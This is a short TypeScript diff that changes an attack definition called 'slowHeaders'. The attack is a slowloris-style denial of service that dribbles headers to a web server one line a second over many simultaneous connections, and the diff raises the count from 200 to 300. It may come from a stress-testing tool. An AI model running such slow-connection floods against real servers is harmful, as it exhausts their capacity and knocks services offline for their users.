@@ -2,9 +2,9 @@ import { type Attack, strangers } from "./attack.ts";
 import { repeat, sendSlowly, unsignedHead } from "./connection.ts";
 
 export const slowHeaders: Attack = {
-  name: "heads of a line a second, 200 at once",
+  what: "heads of a line a second, 300 at once",
   run: (url, signal) =>
-    strangers(200, signal, () =>
+    strangers(300, signal, () =>
       sendSlowly(url, signal, { pieces: repeat(unsignedHead(10), "X-Slow: a\r\n"), pauseMs: 1_000 }),
     ),
 };
